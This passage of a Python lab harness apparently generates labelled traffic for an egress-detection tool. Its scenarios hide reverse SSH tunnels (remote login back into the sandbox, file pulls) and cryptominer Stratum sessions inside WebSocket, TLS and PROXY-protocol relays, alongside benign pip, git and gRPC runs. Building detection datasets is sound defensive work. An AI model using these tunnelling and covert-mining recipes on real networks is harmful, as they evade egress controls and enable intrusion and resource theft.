            _daemon(lab, lab.out, "websockify", f"{PROXY_IP}:{WEBSOCKIFY_PORT}", f"{SSH_IP}:443",
                    port=WEBSOCKIFY_PORT), \
            _tunnel(lab, "-R", "2203:127.0.0.1:22", f"root@{SSH_IP}", proxy_command=client, settle=3.0):
        _run(lab, lab.out, *ssh_args(lab, "-P", "2203", "-b", str(batch), program="sftp"), "root@127.0.0.1")
        time.sleep(1.0)
    return [(SANDBOX_IP, f"{PROXY_IP}:{SQUID_PORT}", "reverse_ssh_tunnel",
             f"http_connect -> websocket (squid 5.7; websockify 0.10.0 Debian; client our src/ws_stdio.py on "
             f"websockets {_version('websockets')} with its proxy support, masked binary frames, subprotocol binary) "
             f"-> ssh -N -R 2203:127.0.0.1:22 "
             f"to websockify's target {SSH_IP}:443; the outside pulls 2 files (160-310 KB) with sftp; the CONNECT "
             f"target is the allowed proxy host itself ({PROXY_IP}:{WEBSOCKIFY_PORT}), the relay's target is not")]


@carrier_scenario
def ws_forward(lab: Lab) -> list[Label]:
    """ssh -N -L inside WebSocket: our websockets client as a local relay to websockify; five downloads."""
    _need("websockify")
    _python_tool("websockets")
    # pproxy 2.7.9's ws:// server never matches a request (WS.guess compares the reader object with b"GET ") and
    # its client offers only the subprotocol "chat", which websockify refuses: so websockify and our client here
    with _daemon(lab, lab.out, "websockify", f"{PROXY_IP}:{WEBSOCKIFY_ALT_PORT}", f"{SSH_IP}:22",
                 port=WEBSOCKIFY_ALT_PORT), \
            _daemon(lab, lab.sbx, sys.executable, str(SRC / "ws_stdio.py"), f"ws://{PROXY_IP}:{WEBSOCKIFY_ALT_PORT}/",
                    "--listen", "127.0.0.1:2022", port=2022), \
            _out_sshd(lab), _target_web(lab, 8080, (55_000, 20_000, 130_000, 75_000, 35_000), 80) as names, \
            _tunnel(lab, "-p", "2022", "-L", "8081:127.0.0.1:8080", "root@127.0.0.1"):
        _fetch_all(lab, lab.sbx, "http://127.0.0.1:8081", names, (0.6, 2.2), 81)
    return [(SANDBOX_IP, f"{PROXY_IP}:{WEBSOCKIFY_ALT_PORT}", "ssh_tunnel_other",
             f"websocket (websockify 0.10.0 Debian -> {SSH_IP}:22; client our src/ws_stdio.py --listen on websockets "
             f"{_version('websockets')}, masked binary frames) -> ssh -N -L 8081:127.0.0.1:8080; 5 curl downloads "
             f"(20-130 KB); "
             + _ws_note(f"{SSH_IP}:22"))]


@carrier_scenario
def ws_stratum(lab: Lab) -> list[Label]:
    """EthereumStratum inside WebSocket: a scripted miner through a local wstunnel (npm) client to its server."""
    with _wstunnel_server(lab), _pool(lab, "ethstratum", 4444), \
            _daemon(lab, lab.sbx, *_wstunnel(), *WSTUNNEL_UUID, "-t", f"127.0.0.1:14445:{POOL_IP}:4444",
                    f"ws://{PROXY_IP}:{WSTUNNEL_PORT}", port=14445, env=_node_env()):
        _miner(lab, "ethstratum", "127.0.0.1", 14445)
    return [(SANDBOX_IP, f"{PROXY_IP}:{WSTUNNEL_PORT}", "stratum",
             f"websocket (wstunnel 1.4.0 npm/Node as a local relay, masked binary frames) -> scripted NiceHash "
             f"EthereumStratum/1.0.0 miner and pool (lab_mining) at {POOL_IP}:4444; " + _ws_note(f"{POOL_IP}:4444"))]


@carrier_scenario
def coinhive_ws(lab: Lab) -> list[Label]:
    """A CoinHive-style browser miner (scripted, Node ws) to coin-hive-stratum's WebSocket-to-Stratum proxy."""
    env = _node_env()
    with _daemon(lab, lab.out, sys.executable, str(SRC / "cn_pool.py"), POOL_IP, "3333", f"push={PUSH_S}",
                 f"duration={SESSION_S + 10}", port=3333), \
            _daemon(lab, lab.out, "node", str(SRC / "coinhive_proxy.js"), PROXY_IP, str(COINHIVE_PORT), POOL_IP,
                    "3333", port=COINHIVE_PORT, env=env):
        _run(lab, lab.sbx, "node", str(SRC / "coinhive_browser.js"), f"ws://{PROXY_IP}:{COINHIVE_PORT}/",
             "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A",
             str(SESSION_S), env=env, timeout=SESSION_S + 30)
    return [(SANDBOX_IP, f"{PROXY_IP}:{COINHIVE_PORT}", "stratum",
             f"websocket, CoinHive protocol: scripted browser miner (src/coinhive_browser.js on ws 3.3, masked text "
             f"frames auth/submit; coinhive.min.js cannot run offline) -> coin-hive-stratum 1.4.10 (npm, real; "
             f"authed/job/hash_accepted) -> scripted CryptoNote pool src/cn_pool.py at {POOL_IP}:3333")]



# ----------------------------------------------------------------------------------------------- TLS
EDGE_NAME = "edge.lab-proxy.example"  # the TLS server name the wrappers send (not a name any DNS answer gave)


@contextlib.contextmanager
def _stunnel(lab: Lab, ns: str, services: dict[str, dict[str, str]], port: int) -> Iterator[None]:
    """stunnel 5.68 (Debian stunnel4) in the foreground with the given [service] sections."""
    _need("stunnel4")
    conf = lab.workdir / f"stunnel-{ns}-{port}.conf"
    body = "foreground = yes\npid =\ndebug = 4\n"
    for name, opts in services.items():
        body += f"[{name}]\n" + "".join(f"{k} = {v}\n" for k, v in opts.items())
    conf.write_text(body)
    with _daemon(lab, ns, "stunnel4", str(conf), port=port):
        yield


def _tls_server(lab: Lab, port: int, target: str) -> dict[str, dict[str, str]]:
    cert, key = _certificate(lab, EDGE_NAME)
    return {f"in{port}": {"accept": f"{PROXY_IP}:{port}", "connect": target, "cert": str(cert), "key": str(key)}}


@contextlib.contextmanager
def _socat_tls_server(lab: Lab, port: int, target: str) -> Iterator[None]:
    """socat 1.7.4 OPENSSL-LISTEN on PROXY_IP:port relaying to target (host:port)."""
    _need("socat")
    cert, key = _certificate(lab, EDGE_NAME)
    with _daemon(lab, lab.out, "socat", f"OPENSSL-LISTEN:{port},bind={PROXY_IP},reuseaddr,fork,cert={cert},"
                 f"key={key},verify=0", f"TCP:{target}", port=port):
        yield


@carrier_scenario
def tls_reverse_shell(lab: Lab) -> list[Label]:
    """SSH inside TLS on 443: ssh -N -R through openssl s_client to stunnel; the outside logs back in and types."""
    client = f"openssl s_client -quiet -verify_quiet -connect {PROXY_IP}:443 -servername {EDGE_NAME}"
    with _stunnel(lab, lab.out, _tls_server(lab, 443, f"{SSH_IP}:22"), 443), _out_sshd(lab), \
            _lab.sshd(lab, lab.sbx), \
            _tunnel(lab, "-R", "2222:127.0.0.1:22", f"root@{SSH_IP}", proxy_command=client):
        _log_back_in(lab, 2222, seed=14)
    return [(SANDBOX_IP, f"{PROXY_IP}:443", "reverse_ssh_tunnel",
             f"tls on 443 (stunnel 5.68 server, TLS 1.3; client OpenSSL 3.0 s_client as ssh ProxyCommand, SNI "
             f"{EDGE_NAME}, no ALPN) -> ssh -N -R 2222:127.0.0.1:22 to {SSH_IP}:22; the outside logs back in and "
             f"types 5 commands")]


@carrier_scenario
def tls_reverse_pull(lab: Lab) -> list[Label]:
    """ssh -N -R inside TLS on 8443 (ncat --ssl to socat); the outside pulls files from the sandbox's web server."""
    _need("ncat")
    with _socat_tls_server(lab, 8443, f"{SSH_IP}:443"), _out_sshd(lab), \
            _sandbox_web(lab, 8000, (120_000, 380_000, 200_000), 90) as names, \
            _tunnel(lab, "-R", "9000:127.0.0.1:8000", f"root@{SSH_IP}", proxy_command=f"ncat --ssl {PROXY_IP} 8443"):
        _fetch_all(lab, lab.out, "http://127.0.0.1:9000", names, (1.0, 2.0), 91)
    return [(SANDBOX_IP, f"{PROXY_IP}:8443", "reverse_ssh_tunnel",
             f"tls on 8443 (socat 1.7.4.4 OPENSSL-LISTEN server; client ncat 7.93 --ssl as ssh ProxyCommand, which "
             f"sends the address {PROXY_IP} as server name) -> ssh -N -R 9000:127.0.0.1:8000 to {SSH_IP}:443; the "
             f"outside pulls 3 files (120-380 KB) from the sandbox's http.server with curl")]


@carrier_scenario
def tls_forward(lab: Lab) -> list[Label]:
    """ssh -N -L through a local stunnel client to stunnel on 443; five downloads through the forward."""
    client = {"ssh": {"client": "yes", "accept": "127.0.0.1:2022", "connect": f"{PROXY_IP}:443", "sni": EDGE_NAME}}
    with _stunnel(lab, lab.out, _tls_server(lab, 443, f"{SSH_IP}:22"), 443), \
            _stunnel(lab, lab.sbx, client, 2022), _out_sshd(lab), \
            _target_web(lab, 8080, (90_000, 40_000, 180_000, 28_000, 66_000), 100) as names, \
            _tunnel(lab, "-p", "2022", "-L", "8081:127.0.0.1:8080", "root@127.0.0.1"):
        _fetch_all(lab, lab.sbx, "http://127.0.0.1:8081", names, (0.7, 2.4), 101)
    return [(SANDBOX_IP, f"{PROXY_IP}:443", "ssh_tunnel_other",
             f"tls on 443 (stunnel 5.68 at both ends, client SNI {EDGE_NAME}, no ALPN) -> ssh -N -L "
             f"8081:127.0.0.1:8080 to {SSH_IP}:22; 5 curl downloads (28-180 KB)")]


@carrier_scenario
def tls_stratum_odd_port(lab: Lab) -> list[Label]:
    """Stratum v1 inside TLS on 5443: aiostratum-proxy through a local stunnel client (with a server name)."""
    client = {"pool": {"client": "yes", "accept": "127.0.0.1:13333", "connect": f"{PROXY_IP}:5443",
                       "sni": EDGE_NAME}}
    with _pool(lab, "equihash", 3333), _stunnel(lab, lab.out, _tls_server(lab, 5443, f"{POOL_IP}:3333"), 5443), \
            _stunnel(lab, lab.sbx, client, 13333):
        who = _aiostratum(lab, "127.0.0.1", 13333, ssl=False)
    return [(SANDBOX_IP, f"{PROXY_IP}:5443", "stratum",
             f"tls on 5443 (stunnel 5.68 at both ends, SNI {EDGE_NAME}, no ALPN) -> Stratum v1: {who} -> scripted "
             f"equihash pool {POOL_IP}:3333, pushes every {PUSH_S} s")]


@carrier_scenario
def tls_stratum_ip_literal(lab: Lab) -> list[Label]:
    """Stratum inside TLS without a real server name, two miners at once: xmrig-style through socat sending the
    address as SNI (9443), and aiostratum-proxy's own TLS to an address, which sends no SNI (9444)."""
    with _pool(lab, "cryptonote", 14444), _pool(lab, "equihash", 3333), \
            _socat_tls_server(lab, 9443, f"{POOL_IP}:14444"), _socat_tls_server(lab, 9444, f"{POOL_IP}:3333"), \
            _daemon(lab, lab.sbx, "socat", "TCP-LISTEN:14445,bind=127.0.0.1,reuseaddr,fork",
                    f"OPENSSL:{PROXY_IP}:9443,verify=0,snihost={PROXY_IP}", port=14445):
        xmrig = lab.popen(lab.sbx, *_mining._peer(lab, lab.sbx, "client", "cryptonote", "127.0.0.1", 14445,
                                                  duration=SESSION_S), env=_env())
        who = _aiostratum(lab, PROXY_IP, 9444, ssl=True)
        if xmrig.wait(timeout=SESSION_S + 30) != 0:
            raise RuntimeError("lab: the xmrig-style miner behind socat failed")
    return [(SANDBOX_IP, f"{PROXY_IP}:9443", "stratum",
             f"tls on 9443 with the address {PROXY_IP} as server name (client socat 1.7.4.4 OPENSSL snihost, server "
             f"socat OPENSSL-LISTEN) -> scripted xmrig-style miner (lab_mining) -> scripted CryptoNote pool "
             f"{POOL_IP}:14444"),
            (SANDBOX_IP, f"{PROXY_IP}:9444", "stratum",
             f"tls on 9444 without SNI (Python ssl to an address; server socat OPENSSL-LISTEN) -> {who} -> scripted "
             f"equihash pool {POOL_IP}:3333")]



# ----------------------------------------------------------------------------------------------- PROXY protocol
HAPROXY_DEFAULTS = "defaults\n    mode tcp\n    timeout connect 5s\n    timeout client 120s\n    timeout server 120s\n"


@contextlib.contextmanager
def _haproxy(lab: Lab, ns: str, name: str, listens: list[tuple[str, str]], port: int) -> Iterator[None]:
    """HAProxy 2.6 (Debian) in the foreground: `listens` are (bind line, server line) pairs."""
    _need("haproxy")
    conf = lab.workdir / f"haproxy-{name}.cfg"
    conf.write_text("global\n    maxconn 64\n" + HAPROXY_DEFAULTS + "".join(
        f"listen l{i}\n    bind {bind}\n    server s{i} {server}\n" for i, (bind, server) in enumerate(listens)))
    with _daemon(lab, ns, "haproxy", "-db", "-f", str(conf), port=port):
        yield


@contextlib.contextmanager
def _proxy_protocol_receiver(lab: Lab) -> Iterator[None]:
    """HAProxy on the proxy host, accepting PROXY protocol v1/v2 (accept-proxy) in front of sshd and the pool."""
    with _haproxy(lab, lab.out, "edge", [(f"{PROXY_IP}:7022 accept-proxy", f"{SSH_IP}:22"),
                                         (f"{PROXY_IP}:7333 accept-proxy", f"{POOL_IP}:4444")], 7022):
        yield


NGINX_STREAM = """load_module /usr/lib/nginx/modules/ngx_stream_module.so;
user root;
worker_processes 1;
daemon off;
pid {wd}/nginx-stream.pid;
events {{ worker_connections 64; }}
stream {{
    server {{
        listen 127.0.0.1:{port};
        proxy_pass {upstream};
        proxy_protocol on;
    }}
}}
"""


@carrier_scenario
def proxy_v1_stratum(lab: Lab) -> list[Label]:
    """EthereumStratum behind PROXY protocol v1: nginx's stream proxy in the sandbox (proxy_protocol on) to HAProxy."""
    _need("nginx")
    conf = lab.workdir / "nginx-stream.conf"
    conf.write_text(NGINX_STREAM.format(wd=lab.workdir, port=13333, upstream=f"{PROXY_IP}:7333"))
    with _pool(lab, "ethstratum", 4444), _proxy_protocol_receiver(lab), \
            _daemon(lab, lab.sbx, "nginx", "-e", "stderr", "-p", str(lab.workdir), "-c", str(conf), port=13333):
        _miner(lab, "ethstratum", "127.0.0.1", 13333)
    return [(SANDBOX_IP, f"{PROXY_IP}:7333", "stratum",
             f"proxy_protocol v1 (nginx 1.22.1 stream proxy_protocol on, in the sandbox; HAProxy 2.6.12 accept-proxy) "
             f"-> scripted NiceHash EthereumStratum/1.0.0 miner and pool (lab_mining) at {POOL_IP}:4444")]


@carrier_scenario
def proxy_v1_ssh_forward(lab: Lab) -> list[Label]:
    """ssh -N -L behind PROXY protocol v1 (HAProxy send-proxy in the sandbox); four downloads through it."""
    with _proxy_protocol_receiver(lab), _out_sshd(lab), \
            _haproxy(lab, lab.sbx, "sbx", [("127.0.0.1:2022", f"{PROXY_IP}:7022 send-proxy")], 2022), \
            _target_web(lab, 8080, (48_000, 160_000, 32_000, 110_000), 110) as names, \
            _tunnel(lab, "-p", "2022", "-L", "8081:127.0.0.1:8080", "root@127.0.0.1"):
        _fetch_all(lab, lab.sbx, "http://127.0.0.1:8081", names, (0.8, 2.0), 111)
    return [(SANDBOX_IP, f"{PROXY_IP}:7022", "ssh_tunnel_other",
             f"proxy_protocol v1 (HAProxy 2.6.12 send-proxy in the sandbox, accept-proxy on the proxy host) -> ssh -N "
             f"-L 8081:127.0.0.1:8080 to {SSH_IP}:22; 4 curl downloads (32-160 KB)")]


@carrier_scenario
def proxy_v2_ssh_reverse(lab: Lab) -> list[Label]:
    """ssh -N -R behind PROXY protocol v2 (HAProxy send-proxy-v2 in the sandbox); the outside pulls files."""
    with _proxy_protocol_receiver(lab), _out_sshd(lab), \
            _haproxy(lab, lab.sbx, "sbx", [("127.0.0.1:2022", f"{PROXY_IP}:7022 send-proxy-v2")], 2022), \
            _sandbox_web(lab, 8000, (260_000, 90_000, 330_000), 120) as names, \
            _tunnel(lab, "-p", "2022", "-R", "9000:127.0.0.1:8000", "root@127.0.0.1"):
        _fetch_all(lab, lab.out, "http://127.0.0.1:9000", names, (1.0, 2.2), 121)
    return [(SANDBOX_IP, f"{PROXY_IP}:7022", "reverse_ssh_tunnel",
             f"proxy_protocol v2 (HAProxy 2.6.12 send-proxy-v2 in the sandbox, accept-proxy on the proxy host) -> ssh "
             f"-N -R 9000:127.0.0.1:8000 to {SSH_IP}:22; the outside pulls 3 files (90-330 KB) from the sandbox's "
             f"http.server with curl")]



# ----------------------------------------------------------------------------------------------- the allowed web host
NGINX_WEB = """user root;
worker_processes 1;
daemon off;
pid {wd}/nginx-web.pid;
events {{ worker_connections 256; }}
http {{
    access_log off;
    client_body_temp_path {wd}/nginx-tmp/body;
    proxy_temp_path {wd}/nginx-tmp/proxy;
    fastcgi_temp_path {wd}/nginx-tmp/fastcgi;
    uwsgi_temp_path {wd}/nginx-tmp/uwsgi;
    scgi_temp_path {wd}/nginx-tmp/scgi;
    default_type application/octet-stream;
    types {{ text/html html; text/plain txt; application/json json; }}
    ssl_certificate {cert};
    ssl_certificate_key {key};
    server {{
        listen {web}:80;
        listen {web}:443 ssl http2;
        listen {web}:8443 ssl;
        listen {denied}:443 ssl;
        root {root};
        autoindex on;
    }}
    server {{
        listen {web}:9100;
        location / {{
            default_type application/json;
            return 200 '{{"status":"up","checks":{{"db":"ok","queue":"ok","disk":"ok"}}}}\\n';
        }}
    }}
}}
"""
WHEELS = (("labpkg-alpha", "1.4.2", ("labpkg-beta>=2.0", "labpkg-gamma"), 240_000),
          ("labpkg-beta", "2.1.0", (), 120_000), ("labpkg-gamma", "0.9.1", (), 60_000))


def _wheel(folder: Path, project: str, version: str, requires: tuple[str, ...], size: int, seed: int) -> None:
    """A small pure-Python wheel (PEP 427: METADATA, WHEEL, RECORD) with `size` bytes of package data."""
    mod = project.replace("-", "_")
    dist = f"{mod}-{version}.dist-info"
    files = {f"{mod}/__init__.py": f'__version__ = "{version}"\n'.encode(),
             f"{mod}/data.bin": random.Random(seed).randbytes(size),
             f"{dist}/METADATA": (f"Metadata-Version: 2.1\nName: {project}\nVersion: {version}\n"
                                  + "".join(f"Requires-Dist: {r}\n" for r in requires)).encode(),
             f"{dist}/WHEEL": b"Wheel-Version: 1.0\nGenerator: egressguard-lab\nRoot-Is-Purelib: true\n"
                              b"Tag: py3-none-any\n"}
    record = "".join(f"{name},sha256={base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b'=').decode()},"
                     f"{len(data)}\n" for name, data in files.items()) + f"{dist}/RECORD,,\n"
    files[f"{dist}/RECORD"] = record.encode()
    target = folder / project
    target.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(target / f"{mod}-{version}-py3-none-any.whl", "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in files.items():
            zf.writestr(name, data)


def _git_repo(root: Path, lab: Lab) -> None:
    """A bare repository served by plain HTTP (git's "dumb" protocol: info/refs and packs as static files)."""
    env = dict(_env(), HOME=str(lab.workdir), GIT_AUTHOR_NAME="lab", GIT_AUTHOR_EMAIL="lab@lab.example",
               GIT_COMMITTER_NAME="lab", GIT_COMMITTER_EMAIL="lab@lab.example")
    work = lab.workdir / "git-work"
    work.mkdir()
    git = ["git", "-C", str(work)]
    subprocess.run([*git, "init", "-q", "-b", "main"], check=True, env=env)
    rng = random.Random(130)
    for i in range(3):
        (work / f"src-{i}.py").write_text("".join(f"def f{i}_{j}(x):\n    return x * {rng.randint(1, 99)}\n"
                                                  for j in range(400)))
        (work / f"asset-{i}.bin").write_bytes(rng.randbytes(70_000))
        subprocess.run([*git, "add", "-A"], check=True, env=env)
        subprocess.run([*git, "commit", "-q", "-m", f"change {i}"], check=True, env=env)
    bare = root / "git" / "lab.git"
    subprocess.run(["git", "clone", "-q", "--bare", str(work), str(bare)], check=True, env=env)
    subprocess.run(["git", "-C", str(bare), "repack", "-a", "-d", "-q"], check=True, env=env)
    subprocess.run(["git", "-C", str(bare), "update-server-info"], check=True, env=env)


@contextlib.contextmanager
def _web(lab: Lab, git: bool = False) -> Iterator[Path]:
    """nginx 1.22 (Debian) on WEB_IP (80, 443 with h2, 8443, health check on 9100) and DENIED_IP:443: static files,
    a PEP 503 package index (autoindex pages), optionally a git repository. Yields the CA file clients trust."""
    _need("nginx")
    cert, key = _certificate(lab, "pkg.example", *WEB_NAMES[1:], DENIED_NAME, WEB_IP)
    root = lab.workdir / "web"
    (root / "files").mkdir(parents=True)
    for i, size in enumerate((35_000, 80_000, 150_000, 12_000)):
        (root / "files" / f"asset-{i}.bin").write_bytes(random.Random(140 + i).randbytes(size))
    (root / "index.html").write_text("<!doctype html><title>lab</title><p>" + "lab page " * 300 + "</p>\n")
    for i, (project, version, requires, size) in enumerate(WHEELS):
        _wheel(root / "simple", project, version, requires, size, 150 + i)
    if git:
        _git_repo(root, lab)
    for sub in ("body", "proxy", "fastcgi", "uwsgi", "scgi"):
        (lab.workdir / "nginx-tmp" / sub).mkdir(parents=True, exist_ok=True)
    conf = lab.workdir / "nginx-web.conf"
    conf.write_text(NGINX_WEB.format(wd=lab.workdir, cert=cert, key=key, web=WEB_IP, denied=DENIED_IP, root=root))
    with _daemon(lab, lab.out, "nginx", "-e", "stderr", "-p", str(lab.workdir), "-c", str(conf), port=9100):
        _lab._wait_listening(lab, lab.out, 443)
        yield cert


# ----------------------------------------------------------------------------------------------- negatives
@carrier_scenario
def https_via_connect_benign(lab: Lab) -> list[Label]:
    """Ordinary HTTPS through both CONNECT proxies: curl -x squid and curl -x tinyproxy to the allowed web host."""
    with _web(lab) as ca, _squid(lab), _tinyproxy(lab):
        _fetch_all(lab, lab.sbx, "https://pkg.example/files", [f"asset-{i}.bin" for i in range(4)], (0.3, 1.5), 160,
                   "-x", f"http://{PROXY_IP}:{SQUID_PORT}", "--cacert", str(ca))
        _fetch_all(lab, lab.sbx, "https://pkg.example", ["index.html", "files/", "files/asset-1.bin"], (0.3, 1.2),
                   161, "-x", f"http://{PROXY_IP}:{TINYPROXY_PORT}", "--cacert", str(ca), "--http1.1")
    return [(SANDBOX_IP, f"{PROXY_IP}:{SQUID_PORT}", "benign",
             "http_connect (squid 5.7) -> TLS (curl 7.88, ALPN h2) to pkg.example:443 (nginx 1.22.1, allowed): 4 "
             "downloads of 12-150 KB, one connection each"),
            (SANDBOX_IP, f"{PROXY_IP}:{TINYPROXY_PORT}", "benign",
             "http_connect (tinyproxy 1.11.1) -> TLS (curl --http1.1) to pkg.example:443 (allowed): a page, a listing "
             "and an 80 KB download")]


@carrier_scenario
def ws_chat_benign(lab: Lab) -> list[Label]:
    """A WebSocket chat (websockets, PyPI, both ends): typed messages, pushed messages, pings from both sides."""
    _python_tool("websockets")
    with _daemon(lab, lab.out, sys.executable, str(SRC / "ws_chat.py"), "server", WEB_IP, "8765", port=8765):
        _run(lab, lab.sbx, sys.executable, str(SRC / "ws_chat.py"), "client", f"ws://{WEB_IP}:8765/dev", "18",
             timeout=60)
    return [(SANDBOX_IP, f"{WEB_IP}:8765", "benign",
             f"websocket chat on 8765 (our src/ws_chat.py on websockets {_version('websockets')} at both ends): typing "
             "indicators and "
             "messages typed with human timing, messages pushed every 1-4 s, RFC 6455 pings every 4 s (server) and "
             "5 s (client), 18 s")]


@carrier_scenario
def sse_via_connect_benign(lab: Lab) -> list[Label]:
    """Server-sent events over TLS through squid: curl -N reads an event stream with irregular pushes."""
    cert, key = _certificate(lab, "pkg.example", *WEB_NAMES[1:], DENIED_NAME, WEB_IP)
    with _squid(lab), _daemon(lab, lab.out, sys.executable, str(SRC / "http_push.py"), "sse", WEB_IP, "8091",
                              "every=1.5", "jitter=1.2", f"cert={cert}", f"key={key}", port=8091):
        proc = subprocess.run(["ip", "netns", "exec", lab.sbx, "curl", "-q", "-sS", "-N", "--max-time", "16", "-x",
                               f"http://{PROXY_IP}:{SQUID_PORT}", "--cacert", str(cert),
                               "https://events.example:8091/stream"], capture_output=True, text=True, env=_env(),
                              timeout=40)
        if "event: status" not in proc.stdout:
            raise RuntimeError(f"lab: SSE client got nothing: {proc.stderr[-300:]}")
    return [(SANDBOX_IP, f"{PROXY_IP}:{SQUID_PORT}", "benign",
             "http_connect (squid 5.7) -> TLS -> server-sent events from events.example:8091 (scripted stdlib "
             "server, src/http_push.py; client curl -N): a push every 0.3-2.7 s for 16 s")]


@carrier_scenario
def long_poll_benign(lab: Lab) -> list[Label]:
    """An HTTP long-poll client through squid (plain HTTP proxy requests on one kept-alive connection)."""
    with _squid(lab), _daemon(lab, lab.out, sys.executable, str(SRC / "http_push.py"), "longpoll", WEB_IP, "8092",
                              "hold=1-3", port=8092):
        urls = [f"http://events.example:8092/poll?since={i}" for i in range(7)]
        _curl(lab, lab.sbx, "-x", f"http://{PROXY_IP}:{SQUID_PORT}", "-o", "/dev/null", *urls)
    return [(SANDBOX_IP, f"{PROXY_IP}:{SQUID_PORT}", "benign",
             "long polling through squid 5.7 (plain HTTP proxy requests, keep-alive): curl 7.88 asks "
             "events.example:8092 7 times, each answer held 1-3 s (scripted stdlib server src/http_push.py)")]


@carrier_scenario
def grpc_stream_benign(lab: Lab) -> list[Label]:
    """gRPC streaming over TLS through squid (grpcio at both ends; the client uses grpc_proxy, i.e. CONNECT)."""
    _python_tool("grpc")
    cert, key = _certificate(lab, "pkg.example", *WEB_NAMES[1:], DENIED_NAME, WEB_IP)
    with _squid(lab), _daemon(lab, lab.out, sys.executable, str(SRC / "grpc_stream.py"), "server", f"{WEB_IP}:50051",
                              str(cert), str(key), port=50051):
        _run(lab, lab.sbx, sys.executable, str(SRC / "grpc_stream.py"), "client", "grpc.example:50051", str(cert), "12",
             env=_env(grpc_proxy=f"http://{PROXY_IP}:{SQUID_PORT}"), timeout=90)
    return [(SANDBOX_IP, f"{PROXY_IP}:{SQUID_PORT}", "benign",
             f"http_connect (squid 5.7) -> TLS, ALPN h2 -> gRPC (grpcio {_version('grpcio')} at both ends, our "
             "src/grpc_stream.py) to "
             "grpc.example:50051: a server stream of 7 updates at 0.2-1.4 s, then a bidirectional stream of 8 "
             "reports and acks")]


@carrier_scenario
def packages_via_proxy_benign(lab: Lab) -> list[Label]:
    """pip installs three wheels from an HTTPS index through squid; apt's HTTP client downloads files through
    tinyproxy."""
    target = lab.workdir / "site"
    with _web(lab) as ca, _squid(lab), _tinyproxy(lab):
        _run(lab, lab.sbx, sys.executable, "-m", "pip", "install", "--no-cache-dir", "--target", str(target),
             "--index-url", "https://pkg.example/simple", "--proxy", f"http://{PROXY_IP}:{SQUID_PORT}", "--cert",
             str(ca), "--retries", "0", "labpkg-alpha", timeout=120)
        for i in (2, 0):
            _run(lab, lab.sbx, "/usr/lib/apt/apt-helper", "-o", f"Acquire::http::Proxy=http://{PROXY_IP}:"
                 f"{TINYPROXY_PORT}", "-o", "APT::Sandbox::User=root", "download-file",
                 f"http://pkg.example/files/asset-{i}.bin", str(lab.workdir / f"apt-{i}.bin"))
            time.sleep(0.5)
    if not (target / "labpkg_gamma").is_dir():
        raise RuntimeError("lab: pip did not install the lab packages")
    return [(SANDBOX_IP, f"{PROXY_IP}:{SQUID_PORT}", "benign",
             f"http_connect (squid 5.7) -> TLS -> pip {_version('pip')} installing labpkg-alpha and its 2 dependencies "
             "(wheels of 60-240 KB) from the PEP 503 index at pkg.example (nginx autoindex)"),
            (SANDBOX_IP, f"{PROXY_IP}:{TINYPROXY_PORT}", "benign",
             "apt 2.6 apt-helper download-file through tinyproxy 1.11.1 (plain HTTP proxy requests): 2 files of "
             "35-150 KB from pkg.example")]


@carrier_scenario
def git_via_proxy_benign(lab: Lab) -> list[Label]:
    """git clone over HTTPS through squid (git's dumb HTTP protocol from nginx)."""
    _need("git")
    with _web(lab, git=True) as ca, _squid(lab):
        _run(lab, lab.sbx, "git", "-c", f"http.proxy=http://{PROXY_IP}:{SQUID_PORT}", "-c", f"http.sslCAInfo={ca}",
             "clone", "-q", "https://git.example/git/lab.git", str(lab.workdir / "clone"),
             env=_env(HOME=str(lab.workdir)), timeout=120)
        time.sleep(1.0)
        _run(lab, lab.sbx, "git", "-C", str(lab.workdir / "clone"), "-c", f"http.proxy=http://{PROXY_IP}:{SQUID_PORT}",
             "-c", f"http.sslCAInfo={ca}", "fetch", "-q", env=_env(HOME=str(lab.workdir)), timeout=60)
    return [(SANDBOX_IP, f"{PROXY_IP}:{SQUID_PORT}", "benign",
             "http_connect (squid 5.7) -> TLS -> git 2.39 clone then fetch of git.example/git/lab.git (dumb HTTP "
             "protocol from nginx: info/refs, a 260 KB pack)")]



# ----------------------------------------------------------------------------------------------- beacon negatives
BEACON_S = 45.0  # the false-positive capture of issue 12 point 7 lasted 45 s
RHYTHM_EVERY_S = 5.0  # health check and SSE period: 9 intervals in 47 s (a real agent's 30-60 s exceeds the budget)


def _loop(lab: Lab, argv: list[str], pause: tuple[float, float], seed: int, until: float, errors: list) -> None:
    """Run argv in the sandbox again and again with random pauses until `until` (a script's loop, not a rhythm)."""
    rng = random.Random(seed)
    n = 0
    try:
        while time.time() < until:
            _run(lab, lab.sbx, *[a.replace("{n}", str(n)) for a in argv], timeout=60)
            n += 1
            time.sleep(rng.uniform(*pause))
    except Exception as exc:  # reported by the caller
        errors.append(exc)


@carrier_scenario
def beacon_loop_benign(lab: Lab) -> list[Label]:
    """pip installs, HTTP and HTTPS fetches and pings to the allowed web host, each repeated with short random
    pauses for 45 s: the capture on which beacon findings fired in issue 12 point 7."""
    import threading

    with _web(lab) as ca:
        until, errors = time.time() + BEACON_S, []
        loops = [
            ([sys.executable, "-m", "pip", "install", "--no-cache-dir", "--retries", "0", "--target",
              str(lab.workdir / "pip-{n}"), "--index-url", f"https://{WEB_IP}:8443/simple", "--cert", str(ca),
              "labpkg-gamma"], (0.5, 4.0), 170),
            (["curl", "-q", "-sS", "--fail", "-o", "/dev/null", f"http://{WEB_IP}/files/asset-3.bin"], (0.3, 3.0), 171),
            (["curl", "-q", "-sS", "--fail", "-o", "/dev/null", "--cacert", str(ca), f"https://{WEB_IP}/index.html"],
             (0.3, 3.0), 172),
            (["ping", "-c", "1", "-W", "1", WEB_IP], (0.3, 3.0), 173),
        ]
        threads = [threading.Thread(target=_loop, args=(lab, argv, pause, seed, until, errors))
                   for argv, pause, seed in loops]
        for t in threads:
            t.start()
        for t in threads:
            t.join(timeout=BEACON_S + 90)
        if errors:
            raise RuntimeError(f"lab: beacon loop failed: {errors[0]}")
    note = "repeated for 45 s with random pauses of 0.3-3 s (a script's loop; issue 12 point 7)"
    return [(SANDBOX_IP, f"{WEB_IP}:8443", "benign", f"pip {_version('pip')} installing labpkg-gamma (60 KB wheel) "
             f"from the HTTPS index on 8443 (nginx), one connection per run; repeated for 45 s with random pauses of "
             f"0.5-4 s (a script's loop; issue 12 point 7)"),
